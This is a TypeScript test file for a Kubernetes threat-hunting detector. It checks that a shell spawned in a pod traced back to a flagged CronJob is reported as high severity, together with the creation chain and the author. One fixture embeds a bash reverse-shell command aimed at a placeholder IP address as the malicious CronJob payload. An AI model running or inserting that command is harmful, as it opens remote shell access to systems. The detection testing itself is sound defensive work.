import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../finding.js';
import { loadDetector } from '../hunt/detector.js';
import type { NormalizedEvent } from '../ingest/event.js';
import { JOB_LINEAGE } from './job-lineage.js';
import { auditEvent, instantiate } from './testing.js';

const detector = loadDetector();

/** Lineage alone, seeing the built-in pack's findings on each event as hunt gives them. */
function feed(events: readonly NormalizedEvent[]) {
  const lineage = instantiate(JOB_LINEAGE);
  return events.flatMap((event) => {
    const findings: Finding[] = [];
    detector.detect(event, (finding) => findings.push(finding));
    return lineage.observe(event, findings);
  });
}

const cronJob = (command: string) =>
  auditEvent(
    {
      verb: 'create',
      user: { username: 'mallory@contractor.example' },
      objectRef: { resource: 'cronjobs', namespace: 'default', name: 'sync', apiGroup: 'batch' },
      responseStatus: { code: 201 },
      requestObject: {
        kind: 'CronJob',
        metadata: { name: 'sync', namespace: 'default' },
        spec: {
          schedule: '0 * * * *',
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  containers: [
                    {
                      name: 's',
                      image: 'registry.example.com/s:1',
                      command: ['sh', '-c', command],
                    },
                  ],
                },
              },
            },
          },
        },
      },
    },
    1,
  );
const job = auditEvent(
  {
    verb: 'create',
    user: { username: 'system:serviceaccount:kube-system:cronjob-controller' },
    objectRef: { resource: 'jobs', namespace: 'default', name: 'sync-29925483', apiGroup: 'batch' },
    responseStatus: { code: 201 },
    requestObject: {
      kind: 'Job',
      metadata: { name: 'sync-29925483', ownerReferences: [{ kind: 'CronJob', name: 'sync' }] },
      spec: {},
    },
  },
  2,
);
const pod = auditEvent(
  {
    verb: 'create',
    user: { username: 'system:serviceaccount:kube-system:job-controller' },
    objectRef: { resource: 'pods', namespace: 'default', apiGroup: '' },
    responseStatus: { code: 201 },
    requestObject: { kind: 'Pod', metadata: { generateName: 'sync-29925483-' }, spec: {} },
    responseObject: {
      kind: 'Pod',
      metadata: { name: 'sync-29925483-k2x9q', labels: { 'job-name': 'sync-29925483' } },
      spec: { containers: [] },
    },
  },
  3,
);
const falcoProcess = (image: string): NormalizedEvent => ({
  format: 'falco-json',
  logsource: { product: 'linux', category: 'process_creation' },
  timeMs: Date.parse('2026-11-24T14:05:00Z'),
  data: {
    Image: image,
    CommandLine: `${image} -c id`,
    'k8s.pod.name': 'sync-29925483-k2x9q',
    'k8s.ns.name': 'default',
  },
  origin: { file: 'falco.jsonl', line: 7 },
});

test('a shell in the pod of a flagged CronJob is high and shows the chain and the author', () => {
  const findings = feed([
    cronJob('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
    job,
    pod,
    falcoProcess('/bin/bash'),
  ]);
  const processFinding = findings.find(
    (f) => f.origin && 'line' in f.origin && f.origin.file === 'falco.jsonl',
  );
  assert.equal(processFinding?.level, 'high');
  assert.ok(
    processFinding?.evidence?.includes(
      'CronJob default/sync → Job default/sync-29925483 → Pod default/sync-29925483-k2x9q → process /bin/bash',
    ),
  );
  assert.ok(
    processFinding?.evidence?.includes('created or last changed by mallory@contractor.example'),
  );
  assert.ok(
    findings.some((f) =>
      f.message.startsWith(
        'pod default/sync-29925483-k2x9q started for flagged CronJob default/sync',
      ),
    ),
  );
});

test('a shell in an unflagged job pod is medium; a non-shell process or an unknown pod is nothing', () => {
  const benign = feed([cronJob('pg_dump db | gzip > /b/x.gz'), job, pod, falcoProcess('/bin/sh')]);
  assert.deepEqual(
    benign.map((f) => f.level),
    ['medium'],
  );
  assert.deepEqual(feed([cronJob('x'), job, pod, falcoProcess('/usr/local/bin/pg_dump')]), []);
  const other = { ...falcoProcess('/bin/sh'), data: { Image: '/bin/sh', 'k8s.pod.name': 'web-1' } };
  assert.deepEqual(feed([cronJob('x'), job, pod, other]), []);
});
